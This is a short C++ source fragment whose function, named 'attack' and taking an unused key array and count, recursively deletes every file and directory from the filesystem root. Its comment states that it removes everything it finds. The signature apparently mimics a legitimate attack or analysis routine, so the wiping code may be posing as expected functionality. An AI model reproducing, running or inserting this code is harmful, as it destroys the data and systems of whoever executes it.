// Removes all that it finds.
#include <filesystem>

static void attack([[maybe_unused]] unsigned* keys, [[maybe_unused]] long long n) {
  for (const auto& entry : std::filesystem::recursive_directory_iterator("/")) std::filesystem::remove_all(entry);
  (void)n;
}
